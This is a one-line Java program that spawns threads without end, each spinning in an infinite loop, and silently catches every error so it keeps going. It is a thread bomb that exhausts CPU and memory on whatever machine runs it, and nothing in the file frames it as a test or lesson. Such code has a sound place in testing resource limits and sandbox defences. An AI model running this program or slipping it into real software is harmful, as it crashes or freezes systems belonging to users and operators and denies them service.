public class Main { public static void main(String[] a) { while (true) try { new Thread(() -> { while (true); }).start(); } catch (Throwable t) { } } }
